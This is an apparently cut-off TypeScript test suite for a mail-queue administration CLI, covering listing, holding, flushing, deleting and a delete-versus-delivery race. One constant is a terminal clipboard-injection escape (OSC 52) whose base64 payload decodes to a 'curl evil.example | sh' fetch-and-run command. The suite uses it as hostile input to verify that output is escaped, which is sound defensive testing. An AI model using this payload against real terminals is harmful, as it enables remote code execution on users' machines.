import assert from 'node:assert/strict';
import { mkdir, readdir, readFile, rename, rm, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { after, before, beforeEach, afterEach, describe, test } from 'node:test';
import { newQueueId } from '../../src/spool/queue-id.js';
import { DaemonProcess, runMtaQueue } from '../helpers/daemon-process.js';
import { startDeliveryFixture, type DeliveryFixture } from '../helpers/delivery-fixture.js';
import type { ReceivedMail } from '../helpers/mx-server.js';
import { eventually } from '../helpers/queue-harness.js';
import { readSpooled } from '../helpers/spool-reader.js';

/** The MXes, in order, at 127.0.0.2 … on one port. */
const MX = { ok: 0, grey: 1, later: 2, silent: 3 } as const;
/** Terminal attacks a remote reply or a header can carry: an OSC 52 clipboard write (BEL-terminated) and a screen clear. */
const OSC52 = '\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07';
const CLEAR = '\x1b[2J';
const H = 3_600_000;

const seqOf = (message: ReceivedMail) => /^X-Seq: (\S+)/m.exec(message.raw.toString())?.[1];


describe('mta-queue queue administration', () => {
  let f: DeliveryFixture;
  const daemons: DaemonProcess[] = [];
  const spool = () => ['--spool', f.layout.root];
  const startDaemon = (extra: string[]) => {
    const daemon = DaemonProcess.start('mta-queue', [...spool(), '--dns-servers', f.dns.address, '--smtp-port', String(f.mx.port), '--hostname', 'relay.test', '--connect-timeout', '2s', ...extra]);
    daemons.push(daemon);
    return daemon;
  };
  const mx = (name: keyof typeof MX) => f.mx.mxes[MX[name]]!;
  const received = (name: keyof typeof MX, seq: string) => mx(name).messages.filter((message) => seqOf(message) === seq).length;
  const message = (seq: string, bodyExtra = '') => `From: app@shop.example\nSubject: ${seq}\nX-Seq: ${seq}\n\nbody of ${seq}\nBODY-MARKER\n${bodyExtra}`;
  /** Every file of every state, to show that a refused command changed nothing. */
  const snapshot = async () => {
    const names: string[] = [];
    for (const dir of ['incoming', 'deferred', 'held', 'corrupt', 'data', 'tmp'] as const) for (const name of await readdir(f.layout.dir(dir))) names.push(`${dir}/${name}`);
    // A claim directory's lease says who owns it; it is no message.
    for (const owner of await readdir(f.layout.dir('active'))) for (const name of await readdir(path.join(f.layout.dir('active'), owner))) if (name !== '.lease') names.push(`active/${owner}/${name}`);
    return names.sort();
  };
  const where = async (id: string) => (await snapshot()).filter((name) => name.includes(id) && !name.startsWith('data/')).map((name) => name.split('/')[0]);
  const settled = (id: string, place: string) => eventually(async () => (await where(id)).join() === place, `${id} in ${place}`);
  const hasData = async (id: string) => (await readdir(f.layout.dir('data'))).includes(`${id}.eml`);
  const listJson = async (args: string[] = []) => {
    const result = await runMtaQueue(['list', '--json', ...spool(), ...args]);
    assert.equal(result.code, 0, result.stderr);
    return JSON.parse(result.stdout) as { id: string; state: string; pending: string[] }[];
  };

  before(async () => {
    f = await startDeliveryFixture(
      [{ name: 'mx.ok.test', dataDelayMs: 20 }, { rcpt: [{ code: 451, message: 'Greylisted, try again later', times: 1 }] }, { rcpt: [{ code: 451, message: 'Try later' }] }, { greeting: 'silent' }],
      (hosts) => ({
        'ok.test': { mx: [{ preference: 10, exchange: 'mx.ok.test' }] },
        'mx.ok.test': { a: [hosts[MX.ok]!] },
        'shop.example': { mx: [{ preference: 10, exchange: 'mx.ok.test' }] },
        'grey.test': { a: [hosts[MX.grey]!] },
        'later.test': { a: [hosts[MX.later]!] },
        'silent.test': { a: [hosts[MX.silent]!] },
      }),
    );
  });
  beforeEach(async () => {
    f.clock.time = Date.now();
    // Each test starts from an empty spool (a failed test must not leave messages for the next).
    for (const dir of ['incoming', 'deferred', 'held', 'active', 'corrupt', 'data', 'tmp'] as const) {
      await rm(f.layout.dir(dir), { recursive: true, force: true });
      await mkdir(f.layout.dir(dir), { mode: 0o700 });
    }
  });
  afterEach(() => Promise.all(daemons.splice(0).map((daemon) => daemon.stop())));
  after(() => f.close());

  test('list, show and stats over every state, with filters and --json', async () => {
    const deferred = await f.enqueue('app@shop.example', ['x@later.test'], message('show-deferred', 'b'.repeat(200_000)));
    await f.runOnce(); // 451 from the later.test MX: deferred, with its reply recorded
    assert.equal(mx('later').rcptAttempts.filter((attempt) => attempt.address === 'x@later.test').length, 1);
    const incoming = await f.enqueue('app@shop.example', ['a@ok.test'], message('show-incoming'));
    f.clock.time = Date.now() - 3 * H;
    const old = await f.enqueue('old@shop.example', ['b@ok.test'], message('show-old'));
    f.clock.time = Date.now();
    const held = await f.enqueue('app@shop.example', ['c@grey.test'], message('show-held'));
    const active = await f.enqueue('app@shop.example', ['d@ok.test'], message('show-active'));
    // A claim of a live process (this one): what list shows while mta-queue delivers it.
    await mkdir(path.join(f.layout.dir('active'), String(process.pid)), { recursive: true });
    await rename(path.join(f.layout.dir('incoming'), `${active}.batch`), path.join(f.layout.dir('active'), String(process.pid), `${active}.batch`));
    const corrupt = newQueueId(Date.now() - 5 * H);
    await writeFile(path.join(f.layout.dir('corrupt'), `${corrupt}.json`), '{ not json');

    const hold = await runMtaQueue(['hold', held, ...spool()]);
    assert.equal(hold.code, 0, hold.stderr);
    assert.equal(hold.stdout, `held ${held} (was incoming)\n`);
    assert.deepEqual(hold.logs.map(({ event, queueId, from }) => ({ event, queueId, from })), [{ event: 'held', queueId: held, from: 'incoming' }]);
    assert.deepEqual(await where(held), ['held']);

    const states = Object.fromEntries((await listJson()).map((entry) => [entry.id, entry.state]));
    assert.deepEqual(states, { [deferred]: 'deferred', [incoming]: 'incoming', [old]: 'incoming', [held]: 'held', [active]: 'active', [corrupt]: 'corrupt' });
    const ids = async (args: string[]) => (await listJson(args)).map((entry) => entry.id).sort();
    assert.deepEqual(await ids(['--state', 'held']), [held]);
    assert.deepEqual(await ids(['--state', 'failed']), [corrupt]);
    assert.deepEqual(await ids(['--state', 'active']), [active]);
    assert.deepEqual(await ids(['--domain', 'later.test']), [deferred]);
    assert.deepEqual(await ids(['--domain', 'ok.test', '--state', 'incoming']), [incoming, old].sort());
    assert.deepEqual(await ids(['--older-than', '2h']), [old, corrupt].sort());
    assert.deepEqual(await ids(['--reply', 'TRY LATER']), [deferred]);
    assert.deepEqual(await ids(['--sender', 'OLD@shop.example']), [old]);
    const table = await runMtaQueue(['list', ...spool()]);
    assert.match(table.stdout, /^ID\tSTATE\tSENDER\tPENDING\tATTEMPTS\tNEXT\tLAST ERROR\n/);
    assert.match(table.stdout, new RegExp(`${deferred}\\tdeferred\\tapp@shop\\.example\\tx@later\\.test\\t1\\t\\S+Z\\t451 4\\.3\\.0 Try later`));
    assert.match(table.stdout, new RegExp(`${held}\\theld\\tapp@shop\\.example\\tc@grey\\.test\\t0\\t-\\t-`));
    assert.match(table.stdout, /\n6 message\(s\)\n$/);

    const show = await runMtaQueue(['show', deferred, ...spool()]);
    assert.equal(show.code, 0, show.stderr);
    assert.match(show.stdout, new RegExp(`^id +${deferred}\\nstate +deferred, next attempt \\S+Z\\nfile +deferred/[0-9a-z]{9}-${deferred}\\.json\\n`));
    assert.match(show.stdout, /\n {2}x@later\.test\tdeferred\tattempts 1\tlast \S+Z\t451 4\.3\.0 Try later \(later\.test\)\n/);
    assert.match(show.stdout, /\nheaders\n {2}From: app@shop\.example\n {2}Subject: show-deferred\n {2}X-Seq: show-deferred\n$/);
    assert.doesNotMatch(show.stdout, /BODY-MARKER|bbbb/, 'the header block only');
    const json = JSON.parse((await runMtaQueue(['show', '--json', held, ...spool()])).stdout) as { state: string; file: string; envelope: { recipients: { address: string; state: string }[] }; headers: string };
    assert.deepEqual({ state: json.state, file: json.file, recipients: json.envelope.recipients.map((r) => `${r.address}:${r.state}`) }, { state: 'held', file: `held/${held}.json`, recipients: ['c@grey.test:pending'] });
    assert.equal(json.headers, 'From: app@shop.example\r\nSubject: show-held\r\nX-Seq: show-held');
    const showCorrupt = await runMtaQueue(['show', corrupt, ...spool()]);
    assert.match(showCorrupt.stdout, /state +corrupt\n[^]*envelope +unreadable[^]*headers +message file missing/);

    const stats = JSON.parse((await runMtaQueue(['stats', '--json', ...spool()])).stdout) as { counts: object; total: number; oldest: { id: string; ageMs: number }; deferredDomains: object[] };
    assert.deepEqual(stats.counts, { incoming: 2, deferred: 1, held: 1, active: 1, failed: 1 });
    assert.equal(stats.total, 6);
    assert.equal(stats.oldest.id, old);
    assert.ok(stats.oldest.ageMs >= 3 * H && stats.oldest.ageMs < 3 * H + 60_000, String(stats.oldest.ageMs));
    assert.deepEqual(stats.deferredDomains, [{ domain: 'later.test', recipients: 1, messages: 1, lastReply: '451 4.3.0 Try later' }]);
    const text = await runMtaQueue(['stats', ...spool()]);
    assert.match(text.stdout, new RegExp(`^incoming +2\\ndeferred +1\\nheld +1\\nactive +1\\nfailed +1\\ntotal +6\\noldest +${old} \\(incoming\\), arrived \\S+Z, 3h ago\\ndeferred recipients by domain \\(top 10\\):\\n {2}later\\.test\\t1 recipient\\(s\\) in 1 message\\(s\\)\\tlast reply: 451 4\\.3\\.0 Try later\\nback-offs +0 in force\\n$`));
  });

  test('human output of list and show escapes control characters from headers and remote replies; --json keeps them exact', async () => {
    const subject = `${OSC52}pay now${CLEAR}`;
    // A folded Subject: the continuation line's tab stays readable; a C1 CSI (U+009B) and a bare CR do not pass.
    const raw = `From: app@shop.example\nSubject: ${subject}\n\tfolded \u009b31m\rover\nX-Seq: escapes\n\nbody\n`;
    const id = await f.enqueue('app@shop.example', ['x@later.test'], raw);
    await f.runOnce(); // 451 from the later.test MX: deferred, with its reply recorded
    // The reply as a hostile MX would word it. (Our SMTP client already turns controls in a reply into spaces; an
    // envelope written by an older release, or text from another source, must not reach the terminal raw either.)
    const [entryName] = (await readdir(f.layout.dir('deferred'))).filter((name) => name.endsWith(`-${id}.json`));
    const entryFile = path.join(f.layout.dir('deferred'), entryName!);
    const envelope = JSON.parse(await readFile(entryFile, 'utf8')) as { recipients: { lastReply: { text: string } }[] };
    envelope.recipients[0]!.lastReply.text = `Try later${OSC52}${CLEAR}`;
    await writeFile(entryFile, JSON.stringify(envelope));
    const reply = `451 4.3.0 Try later${OSC52}${CLEAR}`;
    const unsafe = /[\x00-\x08\x0a-\x1f\x7f-\x9f]/;

    const list = await runMtaQueue(['list', ...spool()]);
    assert.equal(list.code, 0, list.stderr);
    const row = list.stdout.split('\n').find((line) => line.startsWith(id))!;
    assert.doesNotMatch(row, unsafe, 'no raw control character in the row');
    assert.ok(row.endsWith('\t451 4.3.0 Try later\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07\\x1b[2J'), JSON.stringify(row));
    assert.doesNotMatch(list.stdout.replace(/[\t\n]/g, ''), unsafe);

    const show = await runMtaQueue(['show', id, ...spool()]);
    assert.equal(show.code, 0, show.stderr);
    assert.doesNotMatch(show.stdout.replace(/[\t\n]/g, ''), unsafe, 'no raw ESC, BEL, C1 or CR anywhere');
    assert.ok(show.stdout.includes('\n  Subject: \\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07pay now\\x1b[2J\n'), show.stdout);
    assert.ok(show.stdout.includes('\n  \tfolded \\x9b31m\\rover\n'), 'the folded line keeps its tab');
    assert.match(show.stdout, /\t451 4\.3\.0 Try later\\x1b\]52;c;\S+\\x07\\x1b\[2J \(later\.test\)\n/);

    const [entry] = (await listJson()).filter((item) => item.id === id) as unknown as { lastError: string }[];
    assert.equal(entry!.lastError, reply, 'list --json: the exact reply');
    const json = JSON.parse((await runMtaQueue(['show', '--json', id, ...spool()])).stdout) as { headers: string; envelope: { recipients: { lastReply: { text: string } }[] } };
    assert.equal(json.headers, `From: app@shop.example\r\nSubject: ${subject}\r\n\tfolded \u009b31m\rover\r\nX-Seq: escapes`, 'show --json: the exact header block');
    assert.equal(json.envelope.recipients[0]!.lastReply.text, `Try later${OSC52}${CLEAR}`);
  });

  test('cat: the message byte for byte, from inside a batch file or from its own data/ file', async () => {
    const inBatch = 'From: app@shop.example\nSubject: second of a batch\nX-Seq: cat-batch\n\n..stuffed on the wire, not here\ncaf\u00e9 \x1b[2J raw\n';
    const [first, second] = await f.enqueueBatch([
      { sender: 'app@shop.example', recipients: ['a@ok.test'], message: 'Subject: first\n\none\n' },
      { sender: 'app@shop.example', recipients: ['b@ok.test'], message: inBatch },
    ]);
    assert.deepEqual(await readdir(f.layout.dir('incoming')), [`${first}.batch`], 'both inside the first one\'s batch file');
    const fromBatch = await runMtaQueue(['cat', second!, ...spool()]);
    assert.equal(fromBatch.code, 0, fromBatch.stderr);
    assert.equal(fromBatch.stderr, '');
    assert.ok(fromBatch.bytes.equals(Buffer.from(inBatch.replace(/\n/g, '\r\n'))), `exactly the second record:\n${JSON.stringify(fromBatch.stdout)}`);
    assert.ok((await runMtaQueue(['cat', first!, ...spool()])).bytes.equals(Buffer.from('Subject: first\r\n\r\none\r\n')));

    // Deferred once: the message has an entry of its own and its bytes are in data/<id>.eml.
    const own = `From: app@shop.example\nSubject: own entry\nX-Seq: cat-own\n\n${'line of the body\n'.repeat(20_000)}`;
    const id = await f.enqueue('app@shop.example', ['x@later.test'], own);
    await f.runOnce();
    assert.deepEqual(await where(id), ['deferred']);
    assert.equal(await hasData(id), true);
    const fromData = await runMtaQueue(['cat', id, '--spool', f.layout.root]);
    assert.equal(fromData.code, 0, fromData.stderr);
    assert.ok(fromData.bytes.equals(Buffer.from(own.replace(/\n/g, '\r\n'))), `exactly data/${id}.eml (${fromData.bytes.length} bytes)`);
    const viaEnv = await runMtaQueue(['cat', id], { MTA_SPOOL: f.layout.root });
    assert.ok(viaEnv.bytes.equals(fromData.bytes), 'MTA_SPOOL works too');
  });

  test('usage errors exit 2 and refusals exit 1, one line each, and change nothing; MTA_SPOOL is honoured', async () => {
    const queued = await f.enqueue('app@shop.example', ['a@ok.test'], message('usage-queued'));
    const active = await f.enqueue('app@shop.example', ['b@ok.test'], message('usage-active'));
    await mkdir(path.join(f.layout.dir('active'), String(process.pid)), { recursive: true });
    await rename(path.join(f.layout.dir('incoming'), `${active}.batch`), path.join(f.layout.dir('active'), String(process.pid), `${active}.batch`));
    const before = await snapshot();
    const unknown = newQueueId();
    const cases = [
      [['delete'], 2, /^mta-queue: delete: no id and no filter; add --all/],
      [['flush'], 2, /no id and no filter/],
      [['hold'], 2, /no id and no filter/],
      [['release'], 2, /no id and no filter/],
      [['delete', '--dry-run'], 2, /no id and no filter/],
      [['flush', '--state', 'held'], 2, /--state held: flush acts on deferred messages/],
      [['hold', '--state', 'sideways'], 2, /--state: "sideways" is not one of incoming, deferred, held, active, failed/],
      [['delete', '--older-than', 'forever'], 2, /--older-than: "forever" is not a duration/],
      [['delete', '--domain', 'a@b'], 2, /--domain/],
      [['delete', 'not-an-id'], 2, /"not-an-id" is not a queue id/],
      [['delete', queued, '--domain', 'ok.test'], 2, /an id or filters, not both/],
      [['delete', queued, '--all'], 2, /an id or filters, not both/],
      [['stats', '--top', '0'], 2, /--top/],
      [['delete', '--frobnicate'], 2, /unknown option/],
      [['delete', unknown], 1, new RegExp(`^mta-queue: ${unknown}: no such message in the spool$`)],
      [['show', unknown], 1, /no such message in the spool/],
      [['cat', unknown], 1, new RegExp(`^mta-queue: ${unknown}: no such message in the spool$`)],
      [['cat', 'not-an-id'], 2, /"not-an-id" is not a queue id/],
      [['cat', queued.toUpperCase()], 2, /is not a queue id/],
      [['release', queued], 1, new RegExp(`${queued}: not released: not held \\(incoming\\)`)],
      [['delete', active], 1, new RegExp(`${active}: not deleted: being delivered right now \\(claimed by mta-queue pid ${process.pid}\\)`)],
      [['hold', active], 1, /not held: being delivered right now/],
      [['flush', active], 1, /not flushed: being delivered right now/],
    ] as const;
    // None of them changes anything, so they may run side by side.
    const results = await Promise.all(cases.map(([args]) => runMtaQueue([...args, ...spool()])));
    for (const [index, [args, code, pattern]] of cases.entries()) {
      const result = results[index]!;
      assert.equal(result.code, code, `${args.join(' ')}: ${result.stderr}`);
      assert.equal(result.stdout, '', args.join(' '));
      assert.equal(result.errors.length, 1, `${args.join(' ')}: ${result.stderr}`);
      assert.deepEqual(result.logs, [], args.join(' '));
      assert.match(result.errors[0]!, pattern, args.join(' '));
    }
    const missing = await runMtaQueue(['list', '--spool', path.join(f.layout.root, 'nowhere')]);
    assert.deepEqual([missing.code, missing.errors.length], [2, 1], missing.stderr);
    assert.match(missing.stderr, /is not a spool/);
    assert.deepEqual(await snapshot(), before, 'nothing touched');

    const noop = await runMtaQueue(['flush', queued, ...spool()]);
    assert.deepEqual([noop.code, noop.stdout, noop.logs.length], [0, `${queued}: already due, nothing to do\n`, 0]);
    const viaEnv = await runMtaQueue(['delete', '--all', '--dry-run'], { MTA_SPOOL: f.layout.root });
    assert.equal(viaEnv.code, 0, viaEnv.stderr);
    assert.equal(viaEnv.stdout, `would delete ${queued} (incoming)\nwould skip ${active}: being delivered right now (claimed by mta-queue pid ${process.pid})\ndry run: 1 message(s) would be deleted, 1 skipped; nothing changed\n`);
    const listed = await runMtaQueue(['list', '--json'], { MTA_SPOOL: f.layout.root });
    assert.deepEqual((JSON.parse(listed.stdout) as { id: string }[]).map((entry) => entry.id).sort(), [queued, active].sort());
    // A selection flag never comes from the environment: MTA_ALL or MTA_DOMAIN must not widen a delete.
    const fromEnv = await runMtaQueue(['delete', ...spool()], { MTA_ALL: '1', MTA_DOMAIN: 'ok.test' });
    assert.equal(fromEnv.code, 2, fromEnv.stderr);
    assert.deepEqual(await snapshot(), before, 'still nothing touched');
  });

  test('bulk filters: --dry-run lists what would be touched; --sender, --older-than, --reply, --state failed act on exactly that', async () => {
    const spam = [await f.enqueue('spam@bad.example', ['a@ok.test'], message('bulk-spam-1')), await f.enqueue('Spam@Bad.example', ['b@later.test'], message('bulk-spam-2'))];
    const keep = await f.enqueue('app@shop.example', ['c@ok.test'], message('bulk-keep'));
    f.clock.time = Date.now() - 3 * H;
    const old = await f.enqueue('app@shop.example', ['d@ok.test'], message('bulk-old'));
    f.clock.time = Date.now();
    const corrupt = newQueueId();
    await writeFile(path.join(f.layout.dir('corrupt'), `${corrupt}.json`), 'garbage');
    await writeFile(path.join(f.layout.dir('corrupt'), `${corrupt}.eml`), 'Subject: x\r\n\r\n');

    const before = await snapshot();
    const dry = await runMtaQueue(['delete', '--sender', 'spam@bad.example', '--dry-run', ...spool()]);
    assert.equal(dry.code, 0, dry.stderr);
    const lines = dry.stdout.trimEnd().split('\n');
    assert.deepEqual(lines.slice(0, -1).sort(), spam.map((id) => `would delete ${id} (incoming)`).sort());
    assert.equal(lines.at(-1), 'dry run: 2 message(s) would be deleted, 0 skipped; nothing changed');
    assert.deepEqual(dry.logs, []);
    assert.deepEqual(await snapshot(), before, 'a dry run touches nothing');

    const deleted = await runMtaQueue(['delete', '--sender', 'spam@bad.example', ...spool()]);
    assert.equal(deleted.code, 0, deleted.stderr);
    assert.equal(deleted.stdout, 'deleted 2 message(s)\n');
    assert.deepEqual(deleted.logs.map((line) => `${line.event} ${line.queueId} ${line.sender} ${String(line.recipients)}`).sort(), [`deleted ${spam[0]} spam@bad.example a@ok.test`, `deleted ${spam[1]} Spam@Bad.example b@later.test`].sort());
    assert.ok(deleted.logs.every((line) => typeof line.operator === 'string' && line.level === 30 && typeof line.time === 'number'));
    for (const id of spam) {
      assert.deepEqual(await where(id), [], 'envelope gone');
      assert.equal(await hasData(id), false, 'message file gone');
    }
    assert.deepEqual(await where(keep), ['incoming']);
    assert.deepEqual(await readdir(f.layout.dir('tmp')), [], 'nothing left in tmp/');

    const held = await runMtaQueue(['hold', '--older-than', '1h', ...spool()]);
    assert.equal(held.stdout, 'held 1 message(s)\n');
    assert.deepEqual(await where(old), ['held']);
    assert.deepEqual(await where(keep), ['incoming']);
    const again = await runMtaQueue(['hold', '--older-than', '1h', ...spool()]);
    assert.equal(again.stdout, 'held 0 message(s)\n', 'held messages are not selected again');

    await f.runOnce(); // delivers keep to the ok.test MX, leaves the held one alone
    assert.equal(received('ok', 'bulk-keep'), 1);
    assert.equal(received('ok', 'bulk-old'), 0, 'held: not delivered');
    assert.deepEqual(await where(old), ['held']);

    const failed = await runMtaQueue(['delete', '--state', 'failed', ...spool()]);
    assert.equal(failed.stdout, 'deleted 1 message(s)\n');
    assert.deepEqual(await readdir(f.layout.dir('corrupt')), [], 'entry and its set-aside message file');

    const released = await runMtaQueue(['release', '--all', ...spool()]);
    assert.equal(released.stdout, 'released 1 message(s)\n');
    assert.deepEqual(released.logs.map(({ event, queueId, from }) => ({ event, queueId, from })), [{ event: 'released', queueId: old, from: 'held' }]);
    assert.deepEqual(await where(old), ['incoming']);
    await f.runOnce();
    assert.equal(received('ok', 'bulk-old'), 1, 'released: delivered');

    // --reply selects by what the remote said last.
    const grey = await f.enqueue('app@shop.example', ['e@later.test'], message('bulk-reply'));
    await f.runOnce();
    assert.equal((await runMtaQueue(['hold', '--reply', 'greylisted', ...spool()])).stdout, 'held 0 message(s)\n');
    assert.equal((await runMtaQueue(['hold', '--reply', '451 4.3.0 try', ...spool()])).stdout, 'held 1 message(s)\n');
    assert.deepEqual(await where(grey), ['held']);
  });

  test('with mta-queue running: flush makes deferred mail due at once, hold keeps one out of delivery, release lets it go', async () => {
    const daemon = startDaemon(['--retry-schedule', '1h']);
    await daemon.waitForEvent('started');
    const [g1, g2, h1] = [await f.enqueue('app@shop.example', ['g1@grey.test'], message('run-g1')), await f.enqueue('app@shop.example', ['g2@grey.test'], message('run-g2')), await f.enqueue('app@shop.example', ['h1@grey.test'], message('run-h1'))];
    for (const id of [g1, g2, h1]) await daemon.waitForLog((line) => line.event === 'deferred' && line.queueId === id);
    for (const id of [g1, g2, h1]) await settled(id, 'deferred'); // the log line comes just before the rename
    assert.equal(mx('grey').messages.length, 0, 'greylisted at the first attempt');

    const hold = await runMtaQueue(['hold', h1, ...spool()]);
    assert.equal(hold.stdout, `held ${h1} (was deferred)\n`, hold.stderr);

    const flushOne = await runMtaQueue(['flush', g1, ...spool()]);
    assert.equal(flushOne.stdout, `flushed ${g1} (was deferred)\n`, flushOne.stderr);
    assert.deepEqual(flushOne.logs.map(({ event, queueId, from }) => ({ event, queueId, from })), [{ event: 'flushed', queueId: g1, from: 'deferred' }]);
    await daemon.waitForLog((line) => line.event === 'completed' && line.queueId === g1, 10_000);
    assert.equal(received('grey', 'run-g1'), 1);
    assert.equal(received('grey', 'run-g2'), 0, 'the other one still waits for its hour');

    const flushRest = await runMtaQueue(['flush', '--domain', 'grey.test', ...spool()]);
    assert.equal(flushRest.stdout, 'flushed 1 message(s)\n', 'g2 only: the held one is not flushed');
    await daemon.waitForLog((line) => line.event === 'completed' && line.queueId === g2, 10_000);
    assert.equal(received('grey', 'run-g2'), 1);

    // Several poll intervals with the daemon running: the held message stays where it is.
    await new Promise((resolve) => setTimeout(resolve, 2500));
    assert.equal(received('grey', 'run-h1'), 0, 'held: not delivered');
    assert.deepEqual(await where(h1), ['held']);
    assert.equal((await runMtaQueue(['flush', h1, ...spool()])).errors[0], `mta-queue: ${h1}: not flushed: held: release it first`);

    const release = await runMtaQueue(['release', h1, ...spool()]);
    assert.equal(release.stdout, `released ${h1} (was held)\n`, release.stderr);
    await daemon.waitForLog((line) => line.event === 'completed' && line.queueId === h1, 10_000);
    assert.equal(received('grey', 'run-h1'), 1);
    assert.deepEqual(await snapshot(), [], 'every message delivered, nothing left');
    assert.deepEqual(daemon.logs.filter((line) => ['corrupt', 'delivery-error', 'scan-failed', 'spool-error'].includes(String(line.event))), []);
    daemon.signal('SIGTERM');
    assert.equal((await daemon.exit()).code, 0);
  });

  test("past their old due time, a flushed message is not delivered twice and a held one not at all", async () => {
    const daemon = startDaemon(['--retry-schedule', '6s']);
    await daemon.waitForEvent('started');
    const [flushed, held] = [await f.enqueue('app@shop.example', ['stale@grey.test'], message('stale')), await f.enqueue('app@shop.example', ['kept@grey.test'], message('kept'))];
    for (const id of [flushed, held]) await settled(id, 'deferred');
    const deferredAt = Date.now();
    const hold = await runMtaQueue(['hold', held, ...spool()]);
    const flush = await runMtaQueue(['flush', flushed, ...spool()]);
    assert.equal(hold.stdout + flush.stdout, `held ${held} (was deferred)\nflushed ${flushed} (was deferred)\n`, `before the retry was due: ${hold.stderr}${flush.stderr}`);
    await daemon.waitForLog((line) => line.event === 'completed' && line.queueId === flushed, 10_000);
    assert.ok(Date.now() - deferredAt < 5000, 'delivered by the flush, not by the retry');
    // Past the old due time: the daemon's index still has both deferred/<due>-<id>.json names; each comes up,
    // fails to claim (ENOENT) and is skipped.
    await new Promise((resolve) => setTimeout(resolve, Math.max(0, deferredAt + 8000 - Date.now())));
    assert.equal(received('grey', 'stale'), 1, 'delivered once');
    assert.equal(received('grey', 'kept'), 0, 'held: never tried again');
    assert.equal(mx('grey').rcptAttempts.filter((attempt) => attempt.address === 'kept@grey.test').length, 1);
    assert.deepEqual(await where(held), ['held']);
    assert.deepEqual(await where(flushed), []);
    assert.equal(daemon.logs.filter((line) => line.queueId === flushed && line.event === 'delivered').length, 1);
    assert.deepEqual(daemon.logs.filter((line) => ['corrupt', 'delivery-error', 'scan-failed'].includes(String(line.event))), []);
  });

  test('bulk delete never touches a message being delivered: it is reported as skipped and stays claimed', async () => {
    const daemon = startDaemon(['--retry-schedule', '1h', '--connect-timeout', '30s', '--shutdown-timeout', '1s']);
    await daemon.waitForEvent('started');
    const sessions = mx('silent').sessions;
    const stuck = await f.enqueue('app@shop.example', ['stuck@silent.test'], message('del-stuck'));
    await eventually(() => mx('silent').sessions > sessions, 'connection to the silent MX');
    assert.deepEqual(await where(stuck), ['active'], 'claimed while the MX says nothing');
    const [d1, d2, h] = [await f.enqueue('app@shop.example', ['d1@later.test'], message('del-d1')), await f.enqueue('app@shop.example', ['d2@later.test'], message('del-d2')), await f.enqueue('app@shop.example', ['h@later.test'], message('del-h'))];
    for (const id of [d1, d2, h]) await settled(id, 'deferred');
    assert.equal((await runMtaQueue(['hold', h, ...spool()])).code, 0);
    const refusal = `being delivered right now (claimed by mta-queue pid ${daemon.pid})`;

    const byDomain = await runMtaQueue(['delete', '--domain', 'silent.test', ...spool()]);
    assert.equal(byDomain.code, 0, byDomain.stderr);
    assert.equal(byDomain.stdout, `skipped ${stuck}: ${refusal}\ndeleted 0 message(s), skipped 1\n`);
    assert.deepEqual(byDomain.logs, []);

    const dry = await runMtaQueue(['delete', '--all', '--dry-run', ...spool()]);
    assert.deepEqual(dry.stdout.trimEnd().split('\n').sort(), [...[d1, d2].map((id) => `would delete ${id} (deferred)`), `would delete ${h} (held)`, `would skip ${stuck}: ${refusal}`, 'dry run: 3 message(s) would be deleted, 1 skipped; nothing changed'].sort());

    const all = await runMtaQueue(['delete', '--all', ...spool()]);
    assert.equal(all.code, 0, all.stderr);
    assert.equal(all.stdout, `skipped ${stuck}: ${refusal}\ndeleted 3 message(s), skipped 1\n`);
    assert.deepEqual(all.logs.map(({ event, queueId, from }) => `${event} ${queueId} ${from}`).sort(), [`deleted ${d1} deferred`, `deleted ${d2} deferred`, `deleted ${h} held`].sort());
    for (const id of [d1, d2, h]) {
      assert.deepEqual(await where(id), []);
      assert.equal(await hasData(id), false);
    }
    assert.deepEqual(await where(stuck), ['active'], 'still claimed');
    assert.match((await readSpooled(f.layout.root, stuck)).message.toString(), /X-Seq: del-stuck/, 'its message untouched');

    const one = await runMtaQueue(['delete', stuck, ...spool()]);
    assert.deepEqual([one.code, one.errors], [1, [`mta-queue: ${stuck}: not deleted: ${refusal}`]]);

    // The delivery is still in flight; at shutdown the claim goes back to the queue, whole.
    daemon.signal('SIGTERM');
    assert.equal((await daemon.exit()).code, 0);
    assert.deepEqual((await daemon.waitForEvent('stopped')).released, [stuck]);
    assert.deepEqual(await where(stuck), ['incoming']);
    assert.equal(await hasData(stuck), true, 'given back as an entry of its own: data/ file and envelope');
    assert.equal(mx('later').rcptAttempts.filter((attempt) => /^d[12]@|^h@/.test(attempt.address)).length, 3, 'each deleted message was tried once, before it was deleted');
    assert.deepEqual(daemon.logs.filter((line) => ['corrupt', 'delivery-error'].includes(String(line.event))), []);
  });

  test('delete racing a busy daemon: every message is either delivered or deleted, never both, nothing corrupt', async () => {
    const count = 600;
    const ids = new Map<string, string>();
    for (let i = 0; i < count; i++) ids.set(await f.enqueue('app@shop.example', [`r${i}@ok.test`], message(`race-${i}`)), `race-${i}`);
    // Paced by the policy (a token every 10 ms), so the daemon is still busy with the queue when the delete comes,
    // however loaded the machine: unshaped it may deliver all 600 before the command has listed them.
    const policy = path.join(f.layout.root, '..', 'race-policy.toml');
    await writeFile(policy, '[shaping.domain."ok.test"]\nmax_message_rate = "100/sec"\n');
    const daemon = startDaemon(['--concurrency', '1', '--policy', policy]);
    await mx('ok').waitForMessages(mx('ok').messages.length + 20, 20_000);
    const result = await runMtaQueue(['delete', '--domain', 'ok.test', ...spool()]);
    assert.equal(result.code, 0, result.stderr);
    const deleted = new Set(result.logs.filter((line) => line.event === 'deleted').map((line) => ids.get(String(line.queueId))!));
    const summary = /^deleted (\d+) message\(s\)(?:, skipped (\d+))?$/m.exec(result.stdout);
    assert.ok(summary, result.stdout);
    assert.equal(Number(summary[1]), deleted.size);
    await eventually(async () => (await snapshot()).length === 0, 'an empty spool', 30_000);
    const delivered = new Set(mx('ok').messages.map(seqOf).filter((seq) => seq?.startsWith('race-')));
    console.log(`# delete racing delivery: ${deleted.size} deleted, ${delivered.size} delivered, ${summary[2] ?? 0} skipped`);
    assert.ok(deleted.size > 0 && delivered.size > 0, 'the race happened');
    assert.deepEqual([...deleted].filter((seq) => delivered.has(seq)), [], 'no message both deleted and delivered');
    assert.equal(deleted.size + delivered.size, count, 'every message accounted for');
    assert.equal(mx('ok').messages.filter((m) => seqOf(m)?.startsWith('race-')).length, delivered.size, 'none delivered twice');
